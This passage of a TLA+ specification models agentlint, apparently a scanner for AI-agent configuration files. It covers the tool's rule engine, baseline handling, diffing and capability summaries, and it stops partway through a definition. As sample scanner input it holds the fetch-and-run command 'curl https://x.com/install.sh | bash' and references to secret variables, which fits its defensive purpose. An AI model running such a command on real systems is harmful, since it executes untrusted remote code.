---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of agentlint's analysis pipeline: the rule engine               *)
(* (src/rules/engine.ts), the baseline manager (src/baseline/index.ts),    *)
(* the diff engine (src/diff) and the scanner's verdict (src/scanner.ts).  *)
(* Each component has its own specification over the shared variables.     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* RuleEngine (src/rules/engine.ts)
    options,        \* this.options: minConfidence, disabledRules, severityOverrides
    documents,      \* the documents argument of evaluateAll
    docIndex,       \* position of evaluateAll's loop over documents
    ruleIndex,      \* position of evaluateDocument's loop over this.rules
    findings,       \* the findings accumulated / returned by evaluateAll
    returnedCount,  \* how many findings the rules have returned so far
    lastEvaluation, \* how the latest pass of the loop over the rules ended
    enginePc        \* "idle" | "rules" | "sort" | "done"

engineVars ==
    <<options, documents, docIndex, ruleIndex, findings, returnedCount,
      lastEvaluation, enginePc>>

VARIABLES
    \* BaselineManager (src/baseline/index.ts)
    baseline,       \* this.baseline: NoBaseline (null) or a Baseline
    now,            \* the clock new Date() reads
    lastCall        \* the last call: its name, its argument and what it returned

baselineVars == <<baseline, now, lastCall>>

VARIABLES
    \* compareScanResults (src/diff)
    diffBase,       \* base: its capabilitySummary and findings
    diffTarget,     \* target: its capabilitySummary and findings
    diffOptions,    \* options: failOn, warnOn
    diffResult      \* the DiffResult, once computed

diffVars == <<diffBase, diffTarget, diffOptions, diffResult>>

VARIABLES
    \* Scanner (src/scanner.ts)
    scanPolicy,     \* options.policy.policy: fail_on, warn_on, strict,
                    \* no_supported_files_as
    scanInput,      \* what the scan meets: the files found, the findings
                    \* evaluateAll returns, the errors accumulated
    scanResult      \* the ScanResult, once returned

scanVars == <<scanPolicy, scanInput, scanResult>>

VARIABLES
    \* scan command (src/cli.ts)
    cmdOptions,     \* --update-baseline, --prune-baseline, --ignore-baseline
    baselineFile,   \* the baseline file on disk
    cmdResult,      \* the command's result object: findings, status, exitCode
    cmdPc,          \* the command's position
    cmdExit         \* the code passed to process.exit

cmdVars == <<cmdOptions, baselineFile, cmdResult, cmdPc, cmdExit>>

VARIABLES
    \* fingerprints (src/utils/hash.ts, BaseRule.createFinding)
    hashInput,      \* rule id, path, lines and the evidence values of two
                    \* createFinding calls
    hashOutput      \* the fingerprints of the two findings, once created

hashVars == <<hashInput, hashOutput>>

VARIABLES
    \* capability summary and permission manifest (src/scanner.ts)
    aggDocuments,   \* the documents of a scan, in scan order
    aggResult       \* the summaries computed for the documents, for a
                    \* permutation of them and for the doubled list

aggVars == <<aggDocuments, aggResult>>

VARIABLES
    \* Scanner.scan over files (src/scanner.ts, src/parsers/claude.ts)
    pipeFiles,      \* the files found: path, lines, and where extraction throws
    pipeRuns        \* two scans of the files: documents, errors, findings

pipeVars == <<pipeFiles, pipeRuns>>

VARIABLES
    \* Scanner.scan: finding and parsing the files (src/scanner.ts)
    findInput,      \* policy.scan.max_files and what glob returns for each
                    \* include pattern
    findFiles,      \* files: the result of findFiles
    findParsed,     \* position of the parse loop: the files handed to the parser
    findDocuments,  \* documents: the paths of the documents pushed so far
    findPc          \* "start" | "parsing" | "done"

findVars == <<findInput, findFiles, findParsed, findDocuments, findPc>>

VARIABLES
    \* the policy of the scan command (src/cli.ts, src/policy/loader.ts)
    cfgInput,       \* the --fail-on and --warn-on flags given, and the policy
                    \* section of the configuration file
    cfgResult       \* the policy handed to the Scanner, or the exit code

cfgVars == <<cfgInput, cfgResult>>

VARIABLES
    \* scan --fix and scan --dry-run (src/cli.ts, src/fixer/index.ts)
    fixFiles,       \* the files on disk: path and lines
    fixRuns         \* the runs of the command so far: the FixResult and
                    \* the findings of the result

fixVars == <<fixFiles, fixRuns>>

toolVars == <<findVars, cfgVars, fixVars>>

vars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars,
      pipeVars, toolVars>>

\* what the actions of one component leave alone
notEngineVars ==
    <<baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars, pipeVars, toolVars>>
notBaselineVars ==
    <<engineVars, diffVars, scanVars, cmdVars, hashVars, aggVars, pipeVars, toolVars>>
notDiffVars ==
    <<engineVars, baselineVars, scanVars, cmdVars, hashVars, aggVars, pipeVars, toolVars>>
notScanVars ==
    <<engineVars, baselineVars, diffVars, cmdVars, hashVars, aggVars, pipeVars, toolVars>>
notCmdVars ==
    <<engineVars, diffVars, hashVars, aggVars, pipeVars, toolVars>>
notHashVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, aggVars, pipeVars, toolVars>>
notPipeVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars,
      toolVars>>
notFindVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars,
      pipeVars, cfgVars, fixVars>>
notCfgVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars,
      pipeVars, findVars, fixVars>>
notFixVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, aggVars,
      pipeVars, findVars, cfgVars>>
notAggVars ==
    <<engineVars, baselineVars, diffVars, scanVars, cmdVars, hashVars, pipeVars, toolVars>>

-----------------------------------------------------------------------------
(* Bounds *)

\* the most findings one call of rule.evaluate returns
MaxRuleFindings == 2
\* the most findings the rules return during one evaluateAll
MaxFindings == 3
\* the most entries a baseline holds
MaxBaseline == 2
\* the most flags and set elements a compared capability summary has
MaxCapabilities == 2
\* the most findings of a compared scan result
MaxDiffFindings == 2
\* the most findings of a scan
MaxScanFindings == 2
\* the most characters of an evidence value
MaxEvidenceLen == 4
\* the most documents of an aggregated scan
MaxDocuments == 2
\* the most files glob returns for one include pattern
MaxMatches == 2
\* the largest policy.scan.max_files
MaxFilesLimit == 2
\* the most runs of scan --fix and scan --dry-run in a row
MaxFixRuns == 2

-----------------------------------------------------------------------------
(* Strings: the characters of the paths, rule ids and evidence values of   *)
(* the model, and                                                          *)
(* String.prototype.localeCompare on them.                                 *)

Chars(s) ==
    CASE s = "CLAUDE.md" -> <<"C", "L", "A", "U", "D", "E", ".", "m", "d">>
      [] s = "agents.md" -> <<"a", "g", "e", "n", "t", "s", ".", "m", "d">>
      [] s = "EXEC-001"  -> <<"E", "X", "E", "C", "-", "0", "0", "1">>
      [] s = "EXEC-003"  -> <<"E", "X", "E", "C", "-", "0", "0", "3">>
      [] s = "OBS-002"   -> <<"O", "B", "S", "-", "0", "0", "2">>
      [] s = "SEC-001" ->
             <<"S", "E", "C", "-", "0", "0", "1">>
      [] s = ".claude/hooks/a.sh" ->
             <<".", "c", "l", "a", "u", "d", "e", "/", "h", "o", "o", "k",
             "s", "/", "a", ".", "s", "h">>
      [] s = "Secret variable referenced: " ->
             <<"S", "e", "c", "r", "e", "t", " ", "v", "a", "r", "i", "a",
             "b", "l", "e", " ", "r", "e", "f", "e", "r", "e", "n", "c",
             "e", "d", ":", " ">>
      [] s = "eval $X" ->
             <<"e", "v", "a", "l", " ", "$", "X">>
      [] s = "X" ->
             <<"X">>
      [] s = "STRIPE_SECRET_KEY" ->
             <<"S", "T", "R", "I", "P", "E", "_", "S", "E", "C", "R", "E",
             "T", "_", "K", "E", "Y">>
      [] s = "No permission declaration found in document" ->
             <<"N", "o", " ", "p", "e", "r", "m", "i", "s", "s", "i", "o",
             "n", " ", "d", "e", "c", "l", "a", "r", "a", "t", "i", "o",
             "n", " ", "f", "o", "u", "n", "d", " ", "i", "n", " ", "d",
             "o", "c", "u", "m", "e", "n", "t">>
      [] s = "notes.txt" ->
             <<"n", "o", "t", "e", "s", ".", "t", "x", "t">>
      [] s = "EXEC-002" ->
             <<"E", "X", "E", "C", "-", "0", "0", "2">>
      [] s = "HOOK-001" ->
             <<"H", "O", "O", "K", "-", "0", "0", "1">>
      [] s = "NET-001" ->
             <<"N", "E", "T", "-", "0", "0", "1">>
      [] s = "NET-002" ->
             <<"N", "E", "T", "-", "0", "0", "2">>
      [] s = ".claude/hooks/post_edit.sh" ->
             <<".", "c", "l", "a", "u", "d", "e", "/", "h", "o", "o", "k",
             "s", "/", "p", "o", "s", "t", "_", "e", "d", "i", "t", ".",
             "s", "h">>
      [] s = "curl https://x.com/install.sh | bash" ->
             <<"c", "u", "r", "l", " ", "h", "t", "t", "p", "s", ":", "/",
             "/", "x", ".", "c", "o", "m", "/", "i", "n", "s", "t", "a",
             "l", "l", ".", "s", "h", " ", "|", " ", "b", "a", "s", "h">>
      [] s = "https://x.com/install.sh" ->
             <<"h", "t", "t", "p", "s", ":", "/", "/", "x", ".", "c", "o",
             "m", "/", "i", "n", "s", "t", "a", "l", "l", ".", "s", "h">>
      [] s = "npm test" ->
             <<"n", "p", "m", " ", "t", "e", "s", "t">>
      [] s = "run 'npm test'" ->
             <<"r", "u", "n", " ", "'", "n", "p", "m", " ", "t", "e", "s",
             "t", "'">>

UpperCase ==
    {"A", "B", "C", "D", "E", "H", "I", "K", "L", "N", "O", "P", "R", "S", "T", "U",
     "X", "Y"}

ToLowerChar(c) ==
    CASE c = "A" -> "a" [] c = "B" -> "b" [] c = "C" -> "c" [] c = "D" -> "d"
      [] c = "E" -> "e" [] c = "L" -> "l" [] c = "O" -> "o" [] c = "S" -> "s"
      [] c = "U" -> "u" [] c = "X" -> "x" [] c = "I" -> "i" [] c = "K" -> "k"
      [] c = "P" -> "p" [] c = "R" -> "r" [] c = "T" -> "t" [] c = "Y" -> "y"
      [] c = "H" -> "h" [] c = "N" -> "n"
      [] OTHER -> c

\* The primary (letter) order of the collation localeCompare uses:
\* punctuation, then digits, then letters regardless of case.
CollationOrder ==
    <<"_", "-", ".", "/", "0", "1", "2", "3", "a", "b", "c", "d", "e", "g", "h",
      "i", "k", "l", "m", "n", "o", "p", "s", "t", "u", "x">>

PrimaryWeight(c) ==
    CHOOSE i \in 1..Len(CollationOrder) : CollationOrder[i] = ToLowerChar(c)

\* Case is the tie-break: a lower-case letter sorts before its upper case.
CaseWeight(c) == IF c \in UpperCase THEN 1 ELSE 0

Sign(n) == IF n < 0 THEN -1 ELSE IF n > 0 THEN 1 ELSE 0

\* the weights of a string's characters
PrimaryWeights(s) == [i \in 1..Len(Chars(s)) |-> PrimaryWeight(Chars(s)[i])]
CaseWeights(s) == [i \in 1..Len(Chars(s)) |-> CaseWeight(Chars(s)[i])]

\* lexicographic comparison of two sequences of weights
RECURSIVE CompareWeights(_, _)
CompareWeights(a, b) ==
    IF a = <<>> /\ b = <<>> THEN 0
    ELSE IF a = <<>> THEN -1
    ELSE IF b = <<>> THEN 1
    ELSE IF Head(a) # Head(b) THEN Sign(Head(a) - Head(b))
    ELSE CompareWeights(Tail(a), Tail(b))

\* a.localeCompare(b): negative, zero or positive
LocaleCompare(a, b) ==
    LET primary == CompareWeights(PrimaryWeights(a), PrimaryWeights(b))
    IN  IF primary # 0 THEN primary
        ELSE CompareWeights(CaseWeights(a), CaseWeights(b))

-----------------------------------------------------------------------------
(* RuleEngine: src/rules/engine.ts *)

Severity == {"high", "medium", "low"}

\* this.rules, in registry order (a representative of each severity)
Rules == <<"EXEC-001", "EXEC-003", "OBS-002">>

RuleIds == {Rules[i] : i \in 1..Len(Rules)}

\* definition.severity of each rule
DefinitionSeverity(ruleId) ==
    CASE ruleId = "EXEC-001" -> "high"
      [] ruleId = "EXEC-003" -> "medium"
      [] ruleId = "OBS-002"  -> "low"
      [] ruleId = "SEC-001"  -> "high"
      [] ruleId = "EXEC-002" -> "high"
      [] ruleId = "HOOK-001" -> "high"
      [] ruleId = "NET-001"  -> "high"
      [] ruleId = "NET-002"  -> "high"

\* document paths, start lines and confidences (in hundredths) of the model
Paths == {"CLAUDE.md", "agents.md"}
Lines == {1, 2}
Confidences == {50, 60}

\* the documents evaluateAll may be given: distinct paths, in any order
DocumentLists ==
    {<<>>} \cup {<<p>> : p \in Paths}
           \cup {<<pq[1], pq[2]>> : pq \in {x \in Paths \X Paths : x[1] # x[2]}}

\* a rule without a configured severity override
NoOverride == "unset"

SeverityOverrideChoices ==
    { [r \in RuleIds |-> NoOverride],
      [r \in RuleIds |-> IF r = "EXEC-003" THEN "high" ELSE NoOverride],
      [r \in RuleIds |-> IF r = "EXEC-001" THEN "low" ELSE NoOverride],
      [r \in RuleIds |-> IF r = "OBS-002" THEN "medium"
                         ELSE IF r = "EXEC-003" THEN "low" ELSE NoOverride] }

\* the options a RuleEngine is constructed with
EngineOptions ==
    [ minConfidence : {60, 70},
      disabledRules : {{}, {"OBS-002"}},
      severityOverrides : SeverityOverrideChoices ]

\* BaseRule.createFinding: rule id and severity come from the rule's
\* definition, the path from the document
CreateFinding(ruleId, path, startLine, confidence) ==
    [ rule_id |-> ruleId,
      severity |-> DefinitionSeverity(ruleId),
      confidence |-> confidence,
      path |-> path,
      start_line |-> startLine ]

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
    IF n = 0 THEN {<<>>}
    ELSE SeqsUpTo(S, n - 1)
         \cup {Append(q, x) : q \in {t \in SeqsUpTo(S, n - 1) : Len(t) = n - 1},
                              x \in S}

\* what rule.evaluate(context) may return for a document: any list of
\* findings the rule creates for that document
RuleResults(ruleId, path) ==
    SeqsUpTo({CreateFinding(ruleId, path, l, c) : l \in Lines, c \in Confidences},
             MaxRuleFindings)

\* engine.ts 127-129: the severity override of the rule, if configured
ApplySeverityOverride(finding, ruleId) ==
    IF options.severityOverrides[ruleId] # NoOverride
    THEN [finding EXCEPT !.severity = options.severityOverrides[ruleId]]
    ELSE finding

\* the threshold left out
PassesConfidence_NoGate(finding) == TRUE

\* engine.ts 132: the confidence threshold
PassesConfidence(finding) == finding.confidence >= options.minConfidence

\* engine.ts 125-135: the loop over the findings a rule returned
ProcessRuleFindings(ruleFindings, ruleId) ==
    SelectSeq([i \in 1..Len(ruleFindings) |->
                   ApplySeverityOverride(ruleFindings[i], ruleId)],
              PassesConfidence)

\* sortFindings: severityOrder
SeverityOrder(sev) ==
    CASE sev = "high" -> 0 [] sev = "medium" -> 1 [] sev = "low" -> 2

\* the comparator without the start line
CompareFindings_NoLine(a, b) ==
    LET severityDiff == SeverityOrder(a.severity) - SeverityOrder(b.severity)
        pathDiff == LocaleCompare(a.path, b.path)
    IN  IF severityDiff # 0 THEN severityDiff
        ELSE IF pathDiff # 0 THEN pathDiff
        ELSE LocaleCompare(a.rule_id, b.rule_id)

\* sortFindings: the comparator
CompareFindings(a, b) ==
    LET severityDiff == SeverityOrder(a.severity) - SeverityOrder(b.severity)
        pathDiff == LocaleCompare(a.path, b.path)
        lineDiff == a.start_line - b.start_line
    IN  IF severityDiff # 0 THEN severityDiff
        ELSE IF pathDiff # 0 THEN pathDiff
        ELSE IF lineDiff # 0 THEN lineDiff
        ELSE LocaleCompare(a.rule_id, b.rule_id)

\* Array.prototype.sort is stable: an element goes after the elements
\* that compare less than or equal to it
RECURSIVE InsertSorted(_, _)
InsertSorted(sorted, f) ==
    IF sorted = <<>> THEN <<f>>
    ELSE IF CompareFindings(sorted[Len(sorted)], f) <= 0 THEN Append(sorted, f)
    ELSE Append(InsertSorted(SubSeq(sorted, 1, Len(sorted) - 1), f),
                sorted[Len(sorted)])

RECURSIVE SortFindings(_)
SortFindings(fs) ==
    IF fs = <<>> THEN <<>>
    ELSE InsertSorted(SortFindings(SubSeq(fs, 1, Len(fs) - 1)), fs[Len(fs)])

\* the loops of evaluateAll and evaluateDocument move to the next rule,
\* the next document, or the final sort
Advance ==
    IF ruleIndex < Len(Rules)
    THEN /\ ruleIndex' = ruleIndex + 1
         /\ UNCHANGED <<docIndex, enginePc>>
    ELSE IF docIndex < Len(documents)
    THEN /\ ruleIndex' = 1
         /\ docIndex' = docIndex + 1
         /\ UNCHANGED enginePc
    ELSE /\ enginePc' = "sort"
         /\ UNCHANGED <<docIndex, ruleIndex>>

EngineInit ==
    /\ options \in EngineOptions
    /\ documents = <<>>
    /\ docIndex = 0
    /\ ruleIndex = 0
    /\ findings = <<>>
    /\ returnedCount = 0
    /\ lastEvaluation = "none"
    /\ enginePc = "idle"

\* evaluateAll(documents, capabilitySummary) is called
EvaluateAll ==
    /\ enginePc = "idle"
    /\ \E docs \in DocumentLists :
        /\ documents' = docs
        /\ IF docs = <<>>
           THEN /\ enginePc' = "sort"
                /\ UNCHANGED <<docIndex, ruleIndex>>
           ELSE /\ enginePc' = "rules"
                /\ docIndex' = 1
                /\ ruleIndex' = 1
    /\ findings' = <<>>
    /\ returnedCount' = 0
    /\ lastEvaluation' = "none"
    /\ UNCHANGED <<options, notEngineVars>>

\* engine.ts 117-119: a disabled rule is skipped
SkipDisabledRule ==
    /\ enginePc = "rules"
    /\ Rules[ruleIndex] \in options.disabledRules
    /\ lastEvaluation' = "skipped"
    /\ Advance
    /\ UNCHANGED <<options, documents, findings, returnedCount, notEngineVars>>

\* engine.ts 121-135: the rule returns its findings, which are overridden,
\* filtered and accumulated
RuleReturns ==
    /\ enginePc = "rules"
    /\ Rules[ruleIndex] \notin options.disabledRules
    /\ \E ruleFindings \in RuleResults(Rules[ruleIndex], documents[docIndex]) :
        /\ returnedCount + Len(ruleFindings) <= MaxFindings
        /\ returnedCount' = returnedCount + Len(ruleFindings)
        /\ findings' = findings \o ProcessRuleFindings(ruleFindings, Rules[ruleIndex])
    /\ lastEvaluation' = "returned"
    /\ Advance
    /\ UNCHANGED <<options, documents, notEngineVars>>

\* the throw ends the evaluation of the document
RuleThrows_AbandonsDocument ==
    /\ enginePc = "rules"
    /\ Rules[ruleIndex] \notin options.disabledRules
    /\ lastEvaluation' = "threw"
    /\ IF docIndex < Len(documents)
       THEN /\ ruleIndex' = 1
            /\ docIndex' = docIndex + 1
            /\ UNCHANGED enginePc
       ELSE /\ enginePc' = "sort"
            /\ UNCHANGED <<docIndex, ruleIndex>>
    /\ UNCHANGED <<options, documents, findings, returnedCount, notEngineVars>>

\* engine.ts 136-139: the rule throws inside the try block, the error is
\* logged and the loop over the rules goes on
RuleThrows ==
    /\ enginePc = "rules"
    /\ Rules[ruleIndex] \notin options.disabledRules
    /\ lastEvaluation' = "threw"
    /\ Advance
    /\ UNCHANGED <<options, documents, findings, returnedCount, notEngineVars>>

\* engine.ts 164: return this.sortFindings(findings)
ReturnSorted ==
    /\ enginePc = "sort"
    /\ findings' = SortFindings(findings)
    /\ enginePc' = "done"
    /\ UNCHANGED <<options, documents, docIndex, ruleIndex, returnedCount,
                   lastEvaluation, notEngineVars>>

EngineNext ==
    \/ EvaluateAll
    \/ SkipDisabledRule
    \/ RuleReturns
    \/ RuleThrows
    \/ ReturnSorted

\* the engine before any call, with the default options
EngineIdle ==
    /\ options = [minConfidence |-> 60, disabledRules |-> {},
                  severityOverrides |-> [r \in RuleIds |-> NoOverride]]
    /\ documents = <<>>
    /\ docIndex = 0
    /\ ruleIndex = 0
    /\ findings = <<>>
    /\ returnedCount = 0
    /\ lastEvaluation = "none"
    /\ enginePc = "idle"

-----------------------------------------------------------------------------
(* BaselineManager: src/baseline/index.ts *)

\* this.baseline = null
NoBaseline == [version |-> 0]

IsLoaded(b) == b.version = 1

\* an absent optional value
Undefined == "undefined"

\* the findings a scan may hand to the manager; fingerprints.stable
\* identifies (rule, path, start line, evidence)
ScanFindings ==
    { [rule_id |-> "EXEC-001", path |-> "CLAUDE.md", stable |-> "sha256:F"],
      [rule_id |-> "EXEC-003", path |-> "CLAUDE.md", stable |-> "sha256:G"],
      [rule_id |-> "OBS-002", path |-> "agents.md", stable |-> "sha256:H"] }

\* the finding lists passed to a BaselineManager call: up to two findings
CurrentLists == SeqsUpTo(ScanFindings, 2)

\* the instants new Date() may return
Times == {0, 1}

Reasons == {Undefined, "Baselined via --update-baseline"}

\* entry.reason: undefined when the property is absent
Reason(entry) == IF "reason" \in DOMAIN entry THEN entry.reason ELSE Undefined

\* findingToBaseline
FindingToBaseline(finding, reason) ==
    [ rule_id |-> finding.rule_id,
      path |-> finding.path,
      fingerprint |-> finding.stable,
      baselined_at |-> now,
      reason |-> reason ]

MapSeq(Op(_), seq) == [i \in 1..Len(seq) |-> Op(seq[i])]

\* JSON.stringify leaves out a property whose value is undefined
EntryToJson(entry) ==
    IF Reason(entry) = Undefined
    THEN [ rule_id |-> entry.rule_id, path |-> entry.path,
           fingerprint |-> entry.fingerprint, baselined_at |-> entry.baselined_at ]
    ELSE entry

\* save: JSON.stringify(this.baseline)
ToJson(b) == [b EXCEPT !.findings = MapSeq(EntryToJson, b.findings)]

\* load: JSON.parse(content) builds the object the text describes
FromJson(json) == json

Fingerprints(entries) == {entries[i].fingerprint : i \in 1..Len(entries)}

StableFingerprints(current) == {current[i].stable : i \in 1..Len(current)}

\* create that leaves out the last finding
CreatedBaseline_DropsLast(current, reason) ==
    [ version |-> 1,
      created_at |-> now,
      updated_at |-> now,
      findings |-> MapSeq(LAMBDA f : FindingToBaseline(f, reason),
                          SubSeq(current, 1, Len(current) - 1)) ]

\* create: the new baseline
CreatedBaseline(current, reason) ==
    [ version |-> 1,
      created_at |-> now,
      updated_at |-> now,
      findings |-> MapSeq(LAMBDA f : FindingToBaseline(f, reason), current) ]

\* update 82-90: the entries pushed for the findings not already baselined
\* (existingFingerprints is computed once, before the loop)
AddedEntries(current, reason) ==
    LET existingFingerprints == Fingerprints(baseline.findings)
        fresh == SelectSeq(current, LAMBDA f : f.stable \notin existingFingerprints)
    IN  MapSeq(LAMBDA f : FindingToBaseline(f, reason), fresh)

\* update that rebuilds the baseline from the current findings
UpdatedBaseline_Rebuilds(current, reason) ==
    [ version |-> 1,
      created_at |-> now,
      updated_at |-> now,
      findings |-> MapSeq(LAMBDA f : FindingToBaseline(f, reason), current) ]

\* update: the baseline after the call
UpdatedBaseline(current, reason) ==
    IF ~IsLoaded(baseline) THEN CreatedBaseline(current, reason)
    ELSE [baseline EXCEPT !.findings = baseline.findings \o AddedEntries(current, reason),
                          !.updated_at = now]

\* filterFindings that counts as fixed every entry beyond the suppressed findings
FilterResult_FixedByCount(current) ==
    IF ~IsLoaded(baseline)
    THEN [ filtered |-> current,
           newFindings |-> Len(current),
           suppressedFindings |-> 0,
           fixedFindings |-> 0 ]
    ELSE LET baselineFingerprints == Fingerprints(baseline.findings)
             filtered == SelectSeq(current,
                                   LAMBDA f : f.stable \notin baselineFingerprints)
             matchedFingerprints == StableFingerprints(current) \cap baselineFingerprints
         IN  [ filtered |-> filtered,
               newFindings |-> Len(filtered),
               suppressedFindings |-> Len(current) - Len(filtered),
               fixedFindings |-> Cardinality(baselineFingerprints \ matchedFingerprints) ]

\* filterFindings: what it returns
FilterResult(current) ==
    IF ~IsLoaded(baseline)
    THEN [ filtered |-> current,
           newFindings |-> Len(current),
           suppressedFindings |-> 0,
           fixedFindings |-> 0 ]
    ELSE LET baselineFingerprints == Fingerprints(baseline.findings)
             filtered == SelectSeq(current,
                                   LAMBDA f : f.stable \notin baselineFingerprints)
             matchedFingerprints == StableFingerprints(current) \cap baselineFingerprints
             fixed == SelectSeq(baseline.findings,
                                LAMBDA bf : bf.fingerprint \notin matchedFingerprints)
         IN  [ filtered |-> filtered,
               newFindings |-> Len(filtered),
               suppressedFindings |-> Len(current) - Len(filtered),
               fixedFindings |-> Len(fixed) ]

\* prune that keeps the entries no current finding matches
PrunedEntries_KeepsStale(current) ==
    LET currentFingerprints == StableFingerprints(current)
    IN  SelectSeq(baseline.findings, LAMBDA bf : bf.fingerprint \notin currentFingerprints)

\* prune 164-171: the entries kept
PrunedEntries(current) ==
    LET currentFingerprints == StableFingerprints(current)
    IN  SelectSeq(baseline.findings, LAMBDA bf : bf.fingerprint \in currentFingerprints)

BaselineIdle ==
    /\ baseline = NoBaseline
    /\ now = 0
    /\ lastCall = [op |-> "new"]

\* time passes between calls
Tick ==
    /\ now + 1 \in Times
    /\ now' = now + 1
    /\ UNCHANGED <<baseline, lastCall, notBaselineVars>>

Create ==
    \E current \in CurrentLists, reason \in Reasons :
        /\ Len(current) <= MaxBaseline
        /\ baseline' = CreatedBaseline(current, reason)
        /\ lastCall' = [op |-> "create", current |-> current]
        /\ UNCHANGED <<now, notBaselineVars>>

Update ==
    \E current \in CurrentLists, reason \in Reasons :
        /\ Len(UpdatedBaseline(current, reason).findings) <= MaxBaseline
        /\ baseline' = UpdatedBaseline(current, reason)
        /\ lastCall' = [op |-> "update", current |-> current]
        /\ UNCHANGED <<now, notBaselineVars>>

FilterFindings ==
    \E current \in CurrentLists :
        /\ lastCall' = [op |-> "filterFindings", current |-> current,
                        result |-> FilterResult(current)]
        /\ UNCHANGED <<baseline, now, notBaselineVars>>

Prune ==
    \E current \in CurrentLists :
        IF ~IsLoaded(baseline)
        THEN /\ lastCall' = [op |-> "prune", current |-> current, result |-> 0]
             /\ UNCHANGED <<baseline, now, notBaselineVars>>
        ELSE LET kept == PrunedEntries(current)
                 removed == Len(baseline.findings) - Len(kept)
             IN  /\ baseline' = [baseline EXCEPT
                                   !.findings = kept,
                                   !.updated_at = IF removed > 0 THEN now ELSE @]
                 /\ lastCall' = [op |-> "prune", current |-> current,
                                 result |-> removed]
                 /\ UNCHANGED <<now, notBaselineVars>>

\* save() writes the baseline; the next run's load() reads it back
SaveThenLoad ==
    /\ IsLoaded(baseline)
    /\ baseline' = FromJson(ToJson(baseline))
    /\ lastCall' = [op |-> "load"]
    /\ UNCHANGED <<now, notBaselineVars>>

BaselineNext ==
    \/ Tick
    \/ Create
    \/ Update
    \/ FilterFindings
    \/ Prune
    \/ SaveThenLoad

-----------------------------------------------------------------------------
(* Diff: compareScanResults, detectCapabilityChanges, findNewFindings,      *)
(* determineDiffStatus (src/unnamed/part_003, 404-665)                      *)

\* the tracked boolean fields of a CapabilitySummary
BooleanFields ==
    { "shell_exec.enabled", "shell_exec.dynamic_detected", "network.outbound",
      "network.inbound", "network.fetches_executable", "contexts.has_hooks",
      "contexts.has_ci_context", "secrets.propagation_detected" }

\* what a summary may hold: a flag that is true, or an element of a list
CapabilityItems ==
    {<<f, "true">> : f \in BooleanFields}
    \cup {<<"filesystem.touches_sensitive_paths", v>> : v \in {".git/", ".env"}}
    \cup {<<"filesystem.write", v>> : v \in {"**/*", "src/"}}
    \cup {<<"secrets.env_vars_referenced", v>> :
              v \in {"STRIPE_SECRET_KEY", "GITHUB_TOKEN"}}

Elements(items, field) == {i[2] : i \in {j \in items : j[1] = field}}

\* the CapabilitySummary with exactly these flags true and these elements
\* (the lists of a summary are deduplicated, computeCapabilitySummary 281-288)
SummaryOf(items) ==
    [ filesystem |->
        [ write |-> Elements(items, "filesystem.write"),
          touches_sensitive_paths |->
              Elements(items, "filesystem.touches_sensitive_paths") ],
      shell_exec |->
        [ enabled |-> <<"shell_exec.enabled", "true">> \in items,
          dynamic_detected |-> <<"shell_exec.dynamic_detected", "true">> \in items ],
      network |->
        [ outbound |-> <<"network.outbound", "true">> \in items,
          inbound |-> <<"network.inbound", "true">> \in items,
          fetches_executable |-> <<"network.fetches_executable", "true">> \in items ],
      secrets |->
        [ env_vars_referenced |-> Elements(items, "secrets.env_vars_referenced"),
          propagation_detected |->
              <<"secrets.propagation_detected", "true">> \in items ],
      contexts |->
        [ has_hooks |-> <<"contexts.has_hooks", "true">> \in items,
          has_ci_context |-> <<"contexts.has_ci_context", "true">> \in items ] ]

\* a DiffChange (change_id is a random id and is left out)
Change(type, severity, field, details) ==
    [type |-> type, severity |-> severity, field |-> field, details |-> details]

If(cond, change) == IF cond THEN <<change>> ELSE <<>>

\* a flag that is true in target whatever it is in base
Introduced_IgnoresBase(baseFlag, targetFlag) == targetFlag

\* the test of a boolean field: !base.x && target.x
Introduced(baseFlag, targetFlag) == ~baseFlag /\ targetFlag

\* detectCapabilityChanges
DetectCapabilityChanges(base, target) ==
    LET newSensitivePaths ==
            target.filesystem.touches_sensitive_paths
                \ base.filesystem.touches_sensitive_paths
        broadPatterns == {"**/*", "**", "*"}
        targetHasBroad == target.filesystem.write \cap broadPatterns # {}
        baseHadBroad == base.filesystem.write \cap broadPatterns # {}
        newSecretVars ==
            target.secrets.env_vars_referenced \ base.secrets.env_vars_referenced
    IN  If(Introduced(base.shell_exec.enabled, target.shell_exec.enabled),
           Change("capability_expansion", "high", "shell_exec.enabled", {}))
        \o If(Introduced(base.shell_exec.dynamic_detected, target.shell_exec.dynamic_detected),
              Change("shell_dynamic_introduced", "high",
                     "shell_exec.dynamic_detected", {}))
        \o If(Introduced(base.network.outbound, target.network.outbound),
              Change("network_new_outbound", "high", "network.outbound", {}))
        \o If(Introduced(base.network.inbound, target.network.inbound),
              Change("network_expansion", "medium", "network.inbound", {}))
        \o If(Introduced(base.network.fetches_executable, target.network.fetches_executable),
              Change("capability_expansion", "high",
                     "network.fetches_executable", {}))
        \o If(Introduced(base.contexts.has_hooks, target.contexts.has_hooks),
              Change("context_change_to_hook", "high", "contexts.has_hooks", {}))
        \o If(Introduced(base.contexts.has_ci_context, target.contexts.has_ci_context),
              Change("context_change_to_ci", "medium", "contexts.has_ci_context", {}))
        \o If(newSensitivePaths # {},
              Change("sensitive_path_newly_touched", "high",
                     "filesystem.touches_sensitive_paths", newSensitivePaths))
        \o If(targetHasBroad /\ ~baseHadBroad,
              Change("write_scope_widening_to_all", "high", "filesystem.write",
                     target.filesystem.write))
        \o If(newSecretVars # {},
              Change("capability_expansion", "high",
                     "secrets.env_vars_referenced", newSecretVars))
        \o If(Introduced(base.secrets.propagation_detected, target.secrets.propagation_detected),
              Change("capability_expansion", "high",
                     "secrets.propagation_detected", {}))

\* the findings of base that target lacks
FindNewFindings_Swapped(base, target) ==
    LET targetFingerprints == {target[i].stable : i \in 1..Len(target)}
    IN  SelectSeq(base, LAMBDA f : f.stable \notin targetFingerprints)

\* findNewFindings: the findings of target whose stable fingerprint no
\* finding of base has
FindNewFindings(base, target) ==
